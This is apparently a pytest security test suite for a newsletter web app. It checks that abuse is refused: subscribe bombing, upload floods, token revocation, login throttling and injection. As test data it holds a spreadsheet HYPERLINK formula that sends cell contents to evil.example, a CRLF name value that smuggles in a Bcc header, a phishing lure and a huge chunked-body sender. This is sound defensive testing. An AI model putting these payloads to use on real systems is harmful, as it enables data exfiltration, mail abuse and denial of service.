"""Abuse an outsider could try, each reproduced against the real app and store.

One section per weakness found when the public pages were probed: the
signing secret, subscribe bombing, timing, CSV injection, big uploads,
sessions and tokens, throttles, 500s on odd input, header-breaking names,
replayed confirmation links, the webhook's body limit and what compose
publishes.  Servers started here listen on 127.0.0.1 and are stopped.
"""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from collections.abc import Callable
from pathlib import Path
from select import select as readable_now
from typing import Any

import httpx
import pytest
import uvicorn
import yaml
from celery_harness import RedisServer, redis_server, wait_for
from fastapi import FastAPI
from fastapi.testclient import TestClient
from smtp_server import free_port
from sqlalchemy import select
from typer.testing import CliRunner
from web_fixtures import (
    ORGANISER,
    PASSWORD,
    add_subscribers,
    api_token,
    app,
    client,
    csrf,
    future_update_md,
    login,
    organiser,
    send_now,
    store_update,
    transport,
)

from newsletter.bounces.verp import delivery_from_verp, verp_address
from newsletter.config import Settings, get_settings, reset_settings
from newsletter.db import session_scope
from newsletter.dispatch.queue import in_process_queue
from newsletter.errors import UserError
from newsletter.models import ApiToken, EventRecord, ImportJob, Organiser, Subscriber
from newsletter.organisers import find_organiser, issue_token
from newsletter.segment_rules import RuleError, parse_rule
from newsletter.subscriber_csv import export_csv, import_csv
from newsletter.subscribers import SubscriberError, SubscriberInput, set_status
from newsletter.throttles import MemoryThrottle, RedisThrottle
from newsletter.tokens import CONFIRM, TTL, make_token, preferences_url, read_token
from newsletter.transports.memory import InMemoryTransport
from newsletter.web import create_app
from newsletter.web.security import SessionData, read_session, sign_session

__all__ = ["api_token", "app", "client", "organiser", "redis_server", "transport"]

ROOT = Path(__file__).resolve().parent.parent
VICTIM = "victim@example.org"


def _subscriber(email: str) -> Subscriber:
    with session_scope() as session:
        found = session.scalars(select(Subscriber).where(Subscriber.email_key == email)).one()
        session.expunge(found)
        return found


def _post_subscribe(client: TestClient, **fields: str) -> httpx.Response:
    token = csrf(client, "/subscribe")
    response: httpx.Response = client.post(
        "/subscribe", data={"csrf_token": token, **fields}, follow_redirects=False
    )
    return response


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


# 1. The signing secret ---------------------------------------------------------------


def test_init_generates_a_private_key_beside_sqlite_and_servers_refuse_public_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from newsletter.cli import app as cli

    monkeypatch.delenv("NEWSLETTER_SECRET_KEY")
    store = tmp_path / "demo.db"
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{store}")
    reset_settings()
    assert get_settings().secret_key == ""
    runner = CliRunner()
    result = runner.invoke(cli, ["init"])
    assert result.exit_code == 0, result.output
    key_file = Path(f"{store}.secret-key")
    assert key_file.stat().st_mode & 0o077 == 0  # owner only
    reset_settings()
    key = get_settings().secret_key
    assert len(key) >= 32 and key == key_file.read_text().strip()
    # A second init keeps the key: links already sent stay valid.
    assert runner.invoke(cli, ["init"]).exit_code == 0
    reset_settings()
    assert get_settings().secret_key == key

    for public in ("dev-insecure-secret-change-me", "change-me-in-production", "short"):
        monkeypatch.setenv("NEWSLETTER_SECRET_KEY", public)
        reset_settings()
        for command in (["worker"], ["web", "--port", str(free_port())]):
            refused = runner.invoke(cli, command)
            assert refused.exit_code == 2, (command, refused.output)
            assert "refusing to start" in refused.output


def test_app_for_a_public_url_refuses_to_sign_with_no_or_a_public_key() -> None:
    for key in ("", "dev-insecure-secret-change-me"):
        settings = Settings(secret_key=key, base_url="https://news.example.org")
        with pytest.raises(UserError, match="refusing to serve"):
            create_app(settings, start_worker=False)
    strong = Settings(secret_key="k" * 40, base_url="https://news.example.org")
    assert create_app(strong, start_worker=False) is not None


def test_compose_requires_the_secret() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    value = compose["x-app"]["environment"]["NEWSLETTER_SECRET_KEY"]
    assert value.startswith("${NEWSLETTER_SECRET_KEY:?")


def test_key_rotation_keeps_links_sessions_and_bounces_of_the_previous_key() -> None:
    old, new = "o" * 40, "n" * 40
    token = make_token(CONFIRM, 7, ttl=TTL[CONFIRM], secret=old)
    session_cookie = sign_session(SessionData.fresh(3, 1), old)
    before = Settings(secret_key=old)
    bounce = verp_address(42, before)
    rotated = Settings(secret_key=new, previous_secret_keys=old)
    assert read_token(token, CONFIRM, secret=rotated.verification_keys).subject_id == 7
    assert read_session(session_cookie, rotated.verification_keys) is not None
    assert delivery_from_verp(bounce, rotated) == 42
    retired = Settings(secret_key=new)  # after the grace period
    assert read_session(session_cookie, retired.verification_keys) is None
    assert delivery_from_verp(bounce, retired) is None


# 2. and 3. Subscribe bombing, user text in mail, timing -------------------------------


def test_subscribe_bombing_from_many_addresses_sends_one_email(
    app: FastAPI, transport: InMemoryTransport
) -> None:
    clients = [TestClient(app, client=(f"198.51.100.{n}", 40000)) for n in (1, 2, 3)]
    for test_client in clients:
        for _ in range(12):
            response = _post_subscribe(test_client, email=VICTIM, name="Victim")
            assert response.status_code in (303, 429)  # ten per client address, then 429
    in_process_queue().drain()
    assert len(transport.sent_to(VICTIM)) == 1  # the cooldown holds the rest, silently


def test_daily_cap_per_recipient(
    monkeypatch: pytest.MonkeyPatch, database_url: str, transport: InMemoryTransport
) -> None:
    monkeypatch.setenv("NEWSLETTER_CONFIRMATION_COOLDOWN_SECONDS", "0")
    monkeypatch.setenv("NEWSLETTER_CONFIRMATION_DAILY_CAP", "3")
    reset_settings()
    app = create_app(start_worker=False)
    for n in range(8):  # from a new client address each time: only the recipient cap binds
        with TestClient(app, client=(f"203.0.113.{n}", 40000)) as test_client:
            assert _post_subscribe(test_client, email=VICTIM).status_code == 303
            token = csrf(test_client, "/preferences")
            answer = test_client.post("/preferences", data={"email": VICTIM, "csrf_token": token})
            assert answer.status_code == 200
    in_process_queue().drain()
    assert len(transport.sent_to(VICTIM)) == 3


def test_confirmation_mail_carries_no_attacker_text(
    client: TestClient, transport: InMemoryTransport
) -> None:
    lure = "URGENT your council account is suspended. Verify now at http://evil.example/login"
    assert _post_subscribe(client, email=VICTIM, name=lure).status_code == 303
    multi = "Jo\nURGENT: verify at http://evil.example"
    refused = _post_subscribe(client, email="other@example.org", name=multi)
    assert refused.status_code == 400 and "single line" in refused.text
    in_process_queue().drain()
    (message,) = transport.parsed()
    body = message.get_body(("plain",))
    assert body is not None
    text = body.get_content()
    assert "evil" not in text and "http://evil" not in text
    greeting = text.splitlines()[0]
    assert greeting.startswith("Hello URGENT your council")
    assert len(greeting) <= len("Hello ,") + 40


def test_subscribe_does_the_same_work_whether_or_not_subscribed(
    client: TestClient, transport: InMemoryTransport, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_subscribers(1, prefix="known")
    queued: list[tuple[str, tuple[Any, ...]]] = []
    queue = in_process_queue()
    original = queue.enqueue

    def spy(name: str, *args: Any, countdown: float | None = None) -> None:
        queued.append((name, args))
        original(name, *args, countdown=countdown)

    monkeypatch.setattr(queue, "enqueue", spy)
    for address in ("known0@example.org", "newcomer@example.org"):
        assert _post_subscribe(client, email=address).status_code == 303
        token = csrf(client, "/preferences")
        client.post("/preferences", data={"email": address, "csrf_token": token})
    assert transport.messages == []  # nothing is sent inside a request
    assert [name for name, _ in queued] == [
        "request_confirmation",
        "request_preferences_link",
    ] * 2
    assert len(queued[0][1]) == len(queued[2][1])
    with session_scope() as session:  # not even the new address is stored by the request
        assert (
            session.scalars(
                select(Subscriber).where(Subscriber.email_key == "newcomer@example.org")
            ).first()
            is None
        )
    queue.drain()
    assert len(transport.sent_to("newcomer@example.org")) == 1
    assert len(transport.sent_to("known0@example.org")) == 1  # the link; no confirmation


# 4. CSV injection ---------------------------------------------------------------------


def test_export_neutralises_formulas_and_import_reads_them_back(session: Any) -> None:
    import io

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows = [
        SubscriberInput.build("a@example.org", name=formula, organisation="+44 1234"),
        SubscriberInput.build("b@example.org", name="@SUM(1)", organisation="-2+3"),
        SubscriberInput.build("c@example.org", name="Plain Name"),
    ]
    from newsletter.subscribers import upsert

    upsert(session, rows, default_status="active", consent_source="test")
    session.commit()
    out = io.StringIO()
    export_csv(session, out)
    text = out.getvalue()
    import csv

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + formula in cells and "Plain Name" in cells
    report = import_csv(session, text, source="export.csv")
    assert report.rejected == [] and report.result.updated == 0  # round trip: unchanged
    assert (
        session.scalars(
            select(Subscriber.name).where(Subscriber.email_key == "a@example.org")
        ).one()
        == formula
    )


# 5. Uploads ---------------------------------------------------------------------------


class _Server:
    """The app under uvicorn in a thread on 127.0.0.1 (a real socket: chunked bodies stream)."""

    def __init__(self, app: FastAPI) -> None:
        self.port = free_port()
        config = uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> _Server:
        self.thread.start()
        wait_for(lambda: self.server.started, timeout=20, what="uvicorn")
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)


@pytest.fixture
def served(
    database_url: str, transport: InMemoryTransport, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., _Server]:
    del database_url, transport

    def make(**env: str) -> _Server:
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        reset_settings()
        return _Server(create_app(start_worker=True, worker_interval=0.2))

    return make


def _big_csv(size: int) -> bytes:
    notes = "x" * 900
    lines = ["email,name,notes"]
    n = 0
    total = 0
    while total < size:
        line = f"p{n}@example.org,Person {n},{notes}"
        lines.append(line)
        total += len(line) + 1
        n += 1
    return ("\n".join(lines) + "\n").encode()


def test_big_import_returns_at_once_and_public_pages_stay_up(
    served: Callable[..., _Server], api_token: str
) -> None:
    body = _big_csv(20 * 1024 * 1024)
    server = served(NEWSLETTER_MAX_UPLOAD_BYTES=str(32 * 1024 * 1024))
    with server, httpx.Client(base_url=server.url, timeout=60) as http:
        answer = http.post(
            "/api/v1/subscribers/import",
            content=body,
            headers={**_auth(api_token), "Content-Type": "text/csv"},
        )
        assert answer.status_code == 202, answer.text
        job = answer.json()
        assert job["status"] in ("queued", "running") and job["total_rows"] > 20_000
        health_times: list[float] = []
        seen_running = False

        def finished() -> bool:
            nonlocal seen_running
            t0 = time.monotonic()
            assert http.get("/healthz", timeout=2).status_code == 200
            health_times.append(time.monotonic() - t0)
            state = http.get(f"/api/v1/imports/{job['id']}", headers=_auth(api_token))
            seen_running = seen_running or state.json()["status"] == "running"
            return bool(state.json()["status"] in ("finished", "failed"))

        wait_for(finished, timeout=300, what="the import job")
        final = http.get(f"/api/v1/imports/{job['id']}", headers=_auth(api_token)).json()
    assert final["status"] == "finished", final
    assert final["report"]["created"] == job["total_rows"]
    assert seen_running and max(health_times) < 2.0
    with session_scope() as session:
        stored = session.get(ImportJob, job["id"])
        assert stored is not None and stored.data is None  # the upload is not kept


def _chunked_post(
    port: int, path: str, headers: dict[str, str], *, chunks: int = 200
) -> tuple[int | None, int]:
    """POST 1 MB chunks until the server answers; returns (status, chunks sent)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", "Transfer-Encoding: chunked"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
    chunk = b"x" * (1024 * 1024)
    sent = 0
    try:
        for _ in range(chunks):
            if readable_now([sock], [], [], 0)[0]:
                break  # the answer is there: stop writing
            sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            sent += 1
    except OSError:
        pass  # the server closed the connection while we were still writing
    try:
        answer = sock.recv(65536)
    except OSError:
        answer = b""
    finally:
        sock.close()
    found = re.match(rb"HTTP/1\.1 (\d{3})", answer)
    return (int(found.group(1)) if found else None), sent


def test_upload_limits_stream(served: Callable[..., _Server], api_token: str) -> None:
    server = served(NEWSLETTER_MAX_UPLOAD_BYTES=str(2 * 1024 * 1024))
    with server, httpx.Client(base_url=server.url, timeout=60) as http:
        declared = http.post(
            "/api/v1/subscribers/import",
            content=b"email\n" + b"a" * (3 * 1024 * 1024),
            headers=_auth(api_token),
        )
        assert declared.status_code == 413
        status, sent = _chunked_post(server.port, "/api/v1/subscribers/import", _auth(api_token))
        assert status == 413
        assert sent < 50  # refused long before the 200 MB were written
        assert http.get("/healthz").status_code == 200


def test_console_upload_over_the_limit_is_refused(
    monkeypatch: pytest.MonkeyPatch, database_url: str, organiser: str, transport: Any
) -> None:
    monkeypatch.setenv("NEWSLETTER_MAX_UPLOAD_BYTES", "2048")
    monkeypatch.setenv("NEWSLETTER_IMPORT_INLINE_ROWS", "5")
    reset_settings()
    with TestClient(create_app(start_worker=False)) as test_client:
        login(test_client)
        token = csrf(test_client, "/console/subscribers/import")
        big = test_client.post(
            "/console/subscribers/import",
            data={"csrf_token": token},
            files={"file": ("big.csv", b"email\n" + b"a@example.org\n" * 400, "text/csv")},
        )
        assert big.status_code == 413
        rows = "".join(f"p{i}@example.org\n" for i in range(20)).encode()
        queued = test_client.post(
            "/console/subscribers/import",
            data={"csrf_token": token},
            files={"file": ("some.csv", b"email\n" + rows, "text/csv")},
            follow_redirects=False,
        )
        assert queued.status_code == 303
        progress = queued.headers["location"]
        waiting = test_client.get(progress)
        assert "Waiting for a worker" in waiting.text and 'http-equiv="refresh"' in waiting.text
        in_process_queue().drain()
        done = test_client.get(progress)
        assert "20 rows read: 20 new" in done.text and "refresh" not in done.text


# 6. Sessions, tokens, organisers ------------------------------------------------------


def test_logout_ends_every_copy_of_the_session(app: FastAPI, organiser: str) -> None:
    with TestClient(app) as browser:
        login(browser)
        saved = browser.cookies.get("nl_session")
        assert saved
        token = csrf(browser, "/console")
        browser.post("/logout", data={"csrf_token": token})
    with TestClient(app, cookies={"nl_session": saved}) as thief:
        assert thief.get("/console", follow_redirects=False).status_code == 303


def test_password_change_ends_sessions_and_revokes_tokens(
    app: FastAPI, organiser: str, api_token: str
) -> None:
    from newsletter.cli.web_cmds import users_app

    with TestClient(app) as browser:
        login(browser)
        assert browser.get("/console", follow_redirects=False).status_code == 200
        changed = CliRunner().invoke(
            users_app, ["password", ORGANISER, "--password", "a brand new password"]
        )
        assert changed.exit_code == 0, changed.output
        assert browser.get("/console", follow_redirects=False).status_code == 303
        assert browser.get("/api/v1/sends", headers=_auth(api_token)).status_code == 401


def test_api_tokens_expire_and_are_revoked_one_by_one(client: TestClient, organiser: str) -> None:
    from datetime import timedelta

    from newsletter.cli.web_cmds import users_app
    from newsletter.models import utcnow

    with session_scope() as session:
        owner = find_organiser(session, organiser)
        assert owner is not None
        old = issue_token(session, owner, days=1, now=utcnow() - timedelta(days=2))
        keep = issue_token(session, owner, name="backup script")
        drop = issue_token(session, owner, name="laptop")
    assert client.get("/api/v1/sends", headers=_auth(old)).status_code == 401
    assert client.get("/api/v1/sends", headers=_auth(drop)).status_code == 200
    runner = CliRunner()
    listing = runner.invoke(users_app, ["tokens", organiser])
    assert "backup script" in listing.output and "expired" in listing.output
    with session_scope() as session:
        drop_id = session.scalars(select(ApiToken.id).where(ApiToken.name == "laptop")).one()
    assert runner.invoke(users_app, ["revoke", organiser, str(drop_id)]).exit_code == 0
    assert client.get("/api/v1/sends", headers=_auth(drop)).status_code == 401
    assert client.get("/api/v1/sends", headers=_auth(keep)).status_code == 200
    with session_scope() as session:
        assert session.scalars(select(ApiToken.expires_at).where(ApiToken.name == "laptop")).one()


def test_disable_enable_remove_organisers(app: FastAPI, organiser: str, api_token: str) -> None:
    from newsletter.cli.web_cmds import users_app

    runner = CliRunner()
    with TestClient(app) as browser:
        login(browser)
        assert runner.invoke(users_app, ["disable", ORGANISER]).exit_code == 0
        assert browser.get("/console", follow_redirects=False).status_code == 303
        assert browser.get("/api/v1/sends", headers=_auth(api_token)).status_code == 401
        token = csrf(browser, "/login")
        refused = browser.post(
            "/login", data={"email": ORGANISER, "password": PASSWORD, "csrf_token": token}
        )
        assert refused.status_code == 401
        assert runner.invoke(users_app, ["enable", ORGANISER]).exit_code == 0
        login(browser)
        assert browser.get("/api/v1/sends", headers=_auth(api_token)).status_code == 200
    # The last enabled organiser cannot be removed; with another one it can.
    last = runner.invoke(users_app, ["remove", ORGANISER, "--yes"])
    assert last.exit_code == 2 and "only enabled organiser" in last.output
    assert (
        runner.invoke(users_app, ["add", "second@example.org", "--password", "x" * 12]).exit_code
        == 0
    )
    assert runner.invoke(users_app, ["remove", ORGANISER, "--yes"]).exit_code == 0
    with session_scope() as session:
        assert find_organiser(session, ORGANISER) is None


def test_console_organiser_pages(app: FastAPI, organiser: str) -> None:
    with session_scope() as session:
        from newsletter.organisers import create_organiser

        other_id = create_organiser(session, "colleague@example.org", "y" * 12).id
    with TestClient(app) as browser, TestClient(app) as colleague:
        login(colleague, "colleague@example.org", "y" * 12)
        login(browser)
        token = csrf(browser, "/console/users")
        page = browser.get("/console/users")
        assert "colleague@example.org" in page.text
        browser.post(f"/console/users/{other_id}/disable", data={"csrf_token": token})
        assert colleague.get("/console", follow_redirects=False).status_code == 303
        made = browser.post("/console/tokens", data={"csrf_token": token, "name": "ci"})
        shown = re.search(r'id="new-token">(nlt_[^<]+)<', made.text)
        assert shown
        assert browser.get("/api/v1/sends", headers=_auth(shown.group(1))).status_code == 200
        with session_scope() as session:
            token_id = session.scalars(select(ApiToken.id).where(ApiToken.name == "ci")).one()
        browser.post(f"/console/tokens/{token_id}/revoke", data={"csrf_token": token})
        assert browser.get("/api/v1/sends", headers=_auth(shown.group(1))).status_code == 401
        removed = browser.post(
            f"/console/users/{other_id}/remove", data={"csrf_token": token, "confirm": "yes"}
        )
        assert removed.status_code == 200
        with session_scope() as session:
            assert session.get(Organiser, other_id) is None


# 7. Throttles -------------------------------------------------------------------------


def test_login_throttle_counts_failures_per_account_not_successes(
    client: TestClient, organiser: str
) -> None:
    with session_scope() as session:
        from newsletter.organisers import create_organiser

        create_organiser(session, "colleague@example.org", "y" * 12)

    def attempt(email: str, password: str) -> int:
        token = csrf(client, "/login")
        status: int = client.post(
            "/login",
            data={"email": email, "password": password, "csrf_token": token},
            follow_redirects=False,
        ).status_code
        return status

    assert [attempt(ORGANISER, PASSWORD) for _ in range(12)] == [303] * 12
    codes = [attempt(ORGANISER, "wrong password") for _ in range(11)]
    assert codes == [401] * 10 + [429]
    assert attempt(ORGANISER, PASSWORD) == 429  # that account waits
    assert attempt("colleague@example.org", "y" * 12) == 303  # the same address does not


def test_login_throttle_holds_against_a_burst_of_concurrent_guesses(
    client: TestClient, organiser: str
) -> None:
    """30 wrong guesses at once: the account's 10 are tried, the rest wait (429)."""
    import threading

    token = csrf(client, "/login")
    start = threading.Barrier(30)
    codes: list[int] = []
    lock = threading.Lock()

    def guess() -> None:
        start.wait()
        status = client.post(
            "/login",
            data={"email": ORGANISER, "password": "wrong password", "csrf_token": token},
            follow_redirects=False,
        ).status_code
        with lock:
            codes.append(status)

    threads = [threading.Thread(target=guess) for _ in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [401] * 10 + [429] * 20


def test_memory_throttle_is_bounded() -> None:
    throttle = MemoryThrottle(limit=5, window=60.0, max_keys=1000)
    for n in range(60_000):
        throttle.hit(f"198.51.{n // 256}.{n % 256}", now=float(n) / 1000)
    assert len(throttle) == 1000


def test_redis_throttle_is_shared_between_processes(redis_server: RedisServer) -> None:
    import redis

    one = RedisThrottle(redis.Redis.from_url(redis_server.url), "login-account", 3, 60.0)
    two = RedisThrottle(redis.Redis.from_url(redis_server.url), "login-account", 3, 60.0)
    for _ in range(3):
        one.count("lead@example.org")
    assert two.retry_after("lead@example.org") is not None
    assert two.retry_after("other@example.org") is None


def test_redis_throttle_admits_exactly_the_limit_under_a_race(redis_server: RedisServer) -> None:
    """40 clients hit one key at the same instant; exactly ``limit`` get through."""
    import threading

    import redis

    clients = [redis.Redis.from_url(redis_server.url) for _ in range(40)]
    throttles = [RedisThrottle(c, "subscribe-race", 5, 60.0) for c in clients]
    for connection in clients:
        connection.ping()  # connect before the race, so the hits start together
    start = threading.Barrier(len(throttles))
    waits: list[float | None] = []
    lock = threading.Lock()

    def attempt(throttle: RedisThrottle) -> None:
        start.wait()
        wait = throttle.hit("198.51.100.7")
        with lock:
            waits.append(wait)

    threads = [threading.Thread(target=attempt, args=(t,)) for t in throttles]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    admitted = [w for w in waits if w is None]
    refused = [w for w in waits if w is not None]
    assert len(admitted) == 5
    assert len(refused) == 35
    assert all(0.0 < w <= 60.0 for w in refused)
    assert throttles[0].retry_after("198.51.100.7") is not None
    assert throttles[0].retry_after("198.51.100.8") is None


# 8. Bad input is 4xx, never 500; headers on every response ----------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/archive/99999999999",
        "/archive/99999999999999999999999",
        "/events/9223372036854775808",
        "/events/99999999999.ics",
        "/api/v1/subscribers/99999999999",
        "/api/v1/sends/99999999999999999999",
    ],
)
def test_huge_ids_are_404(client: TestClient, api_token: str, path: str) -> None:
    response = client.get(path, headers=_auth(api_token))
    assert response.status_code == 404
    assert response.headers["x-content-type-options"] == "nosniff"


def test_oversized_fields_and_nul_bytes_are_400(client: TestClient, api_token: str) -> None:
    assert _post_subscribe(client, email="a@example.org", name="n" * 201).status_code == 400
    assert _post_subscribe(client, email="a@example.org", organisation="o" * 201).status_code == 400
    assert _post_subscribe(client, email="a@example.org", name="nul\x00").status_code == 400
    assert client.get("/api/v1/subscribers?q=%00", headers=_auth(api_token)).status_code == 400
    api = client.post(
        "/api/v1/subscribers",
        json={"email": "b@example.org", "name": "x" * 300},
        headers=_auth(api_token),
    )
    assert api.status_code == 422 and "name" in api.text


def test_csv_import_rejects_a_long_name_line_and_keeps_the_rest(session: Any) -> None:
    text = f'email,name\na@example.org,{"n" * 250}\nb@example.org,Bea\nc@example.org,"x\x00y"\n'
    report = import_csv(session, text, source="t.csv")
    assert [r.line for r in report.rejected] == [2, 4]
    assert "name" in report.rejected[0].reason and "200" in report.rejected[0].reason
    assert report.result.created == 1


def test_over_complex_rules_get_a_clear_error(client: TestClient, api_token: str) -> None:
    deep = "(" * 1000 + "role:dcs" + ")" * 1000
    wide = " or ".join(["role:dcs"] * 1000)
    many = " or ".join(["role:dcs"] * 150)
    cases = ((deep, "nests deeper"), (wide, "at most 4000"), (many, "more than 100"))
    for rule, words in cases:
        with pytest.raises(RuleError, match=words):
            parse_rule(rule)
        answer = client.post(
            "/api/v1/segments/count", json={"rule": rule}, headers=_auth(api_token)
        )
        assert answer.status_code == 422 and words in answer.text


def test_a_500_page_has_the_security_headers(app: FastAPI) -> None:
    @app.get("/boom-for-test")
    def boom() -> None:
        raise RuntimeError("a bug")

    with TestClient(app, raise_server_exceptions=False) as test_client:
        response = test_client.get("/boom-for-test")
    assert response.status_code == 500
    assert response.headers["content-security-policy"].startswith("default-src")
    assert response.headers["x-frame-options"] == "SAMEORIGIN"


# 9. Names that would break headers -------------------------------------------------------


def test_line_breaks_in_names_are_refused_at_every_entry_point(
    client: TestClient, api_token: str, session: Any
) -> None:
    from newsletter.cli.subscriber_cmds import app as subscribers_cli

    evil = "Jo\r\nBcc: everyone@example.org"
    with pytest.raises(SubscriberError, match="single line"):
        SubscriberInput.build("a@example.org", name=evil)
    assert _post_subscribe(client, email="a@example.org", name=evil).status_code == 400
    api = client.post(
        "/api/v1/subscribers",
        json={"email": "a@example.org", "name": evil},
        headers=_auth(api_token),
    )
    assert api.status_code == 422
    report = import_csv(session, f'email,organisation\na@example.org,"{evil}"\n', source="t.csv")
    assert "single line" in report.rejected[0].reason
    cli = CliRunner().invoke(subscribers_cli, ["add", "a@example.org", "--name", evil])
    assert cli.exit_code == 2 and "single line" in cli.output


# 10. Confirmation links ---------------------------------------------------------------


def test_confirmation_links_are_single_use_and_never_bring_back_leavers(
    client: TestClient, transport: InMemoryTransport
) -> None:
    assert _post_subscribe(client, email=VICTIM).status_code == 303
    in_process_queue().drain()
    (message,) = transport.parsed()
    body = message.get_body(("plain",))
    assert body is not None
    found = re.search(r"https?://\S+(/confirm/\S+)", body.get_content())
    assert found
    link = found.group(1)
    assert client.post(link).status_code == 200
    assert _subscriber(VICTIM).status == "active"
    again = client.post(link)
    assert again.status_code == 400 and "already been used" in again.text
    for left in ("unsubscribed", "bounced", "complained"):
        with session_scope() as session:
            person = session.scalars(select(Subscriber).where(Subscriber.email_key == VICTIM)).one()
            set_status(person, left)
        assert client.post(link).status_code == 400
        assert _subscriber(VICTIM).status == left


# 11. The bounce webhook's body limit -------------------------------------------------


def test_webhook_refuses_a_big_chunked_body_without_reading_it(
    served: Callable[..., _Server],
) -> None:
    with served(NEWSLETTER_BOUNCE_WEBHOOK_SECRET="hook-secret") as server:
        status, sent = _chunked_post(
            server.port, "/webhooks/bounces", {"Authorization": "Bearer hook-secret"}
        )
    assert status == 413
    assert sent < 20  # the limit is 2 MB: refused at once, not after 200 MB


# 12. What compose publishes ----------------------------------------------------------


def test_compose_binds_flower_and_mailpit_to_loopback() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    for service in ("flower", "mailpit"):
        for port in compose["services"][service].get("ports", []):
            assert str(port).startswith("127.0.0.1:"), (service, port)


# 13. Spreadsheets and caches: every CSV download -------------------------------------


def test_every_csv_download_neutralises_formulas_and_is_not_cached(
    client: TestClient, api_token: str
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    _post_subscribe(client, email="sheet@example.org", name=formula, role="dcs")
    in_process_queue().drain()
    with session_scope() as session:
        set_status(_subscriber_in(session, "sheet@example.org"), "active", source="test")
    send_id = send_now(store_update(future_update_md()), ["dcs"])
    with session_scope() as session:
        event_id = session.scalars(select(EventRecord.id)).one()
    login(client)
    for path, auth in (
        (f"/console/sends/{send_id}/recipients.csv", {}),
        (f"/api/v1/sends/{send_id}/recipients.csv", _auth(api_token)),
    ):
        response = client.get(path, headers=auth)
        (row,) = csv.DictReader(io.StringIO(response.text))
        assert row["name"] == "'" + formula, path
    for path in (
        f"/console/sends/{send_id}/recipients.csv",
        "/console/subscribers/export.csv",
        f"/console/events/{event_id}/attendees.csv",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["cache-control"] == "no-store", path


def _subscriber_in(session: Any, email: str) -> Subscriber:
    found: Subscriber = session.scalars(
        select(Subscriber).where(Subscriber.email_key == email)
    ).one()
    return found


# 14. Role names longer than the column that stores them ------------------------------


def test_an_over_long_role_is_bad_input_not_a_crash(client: TestClient) -> None:
    too_long, longest = "r" * 101, "r" * 100
    with pytest.raises(SubscriberError, match="at most 100"):
        SubscriberInput.build("a@example.org", roles=[too_long])
    assert _post_subscribe(client, email="a@example.org", role=too_long).status_code == 400
    add_subscribers(1)
    reader = _subscriber("reader0@example.org")
    token = preferences_url(reader.id).rsplit("/", 1)[1]
    refused = client.post(f"/preferences/{token}", data={"roles": [too_long]})
    assert refused.status_code == 400 and "at most 100 characters" in refused.text
    assert _subscriber("reader0@example.org").role_names == ["dcs"]
    saved = client.post(f"/preferences/{token}", data={"roles": [longest]}, follow_redirects=False)
    assert saved.status_code == 303
    assert _subscriber("reader0@example.org").role_names == [longest]


# 15. Updates with fields longer than their columns -----------------------------------


def test_an_update_too_long_for_its_columns_is_bad_input_everywhere(
    client: TestClient, api_token: str, tmp_path: Path
) -> None:
    from newsletter.cli import app as cli_app

    long_title = f"---\ntitle: {'t' * 301}\n---\n\nHello.\n"
    long_venue = future_update_md().replace("Durham County Hall", "v" * 301)
    login(client)
    token = csrf(client, "/console/updates")
    for text, field in ((long_title, "title"), (long_venue, "event 1 location")):
        pasted = client.post("/console/updates", data={"text": text, "csrf_token": token})
        assert pasted.status_code == 400 and f"{field}: at most" in pasted.text
        api = client.post(
            "/api/v1/updates",
            json={"text": text, "source_name": "u.md"},
            headers=_auth(api_token),
        )
        assert api.status_code == 422 and f"{field}: at most" in api.text
        path = tmp_path / "long.md"
        path.write_text(text)
        cli = CliRunner().invoke(cli_app, ["ingest", str(path)])
        assert cli.exit_code == 2 and f"{field}: at most" in cli.output
    long_name = client.post(
        "/api/v1/updates",
        json={"text": future_update_md(), "source_name": "n" * 501 + ".md"},
        headers=_auth(api_token),
    )
    assert long_name.status_code == 422 and "file name: at most 500" in long_name.text
    assert client.get("/api/v1/updates", headers=_auth(api_token)).json() == []
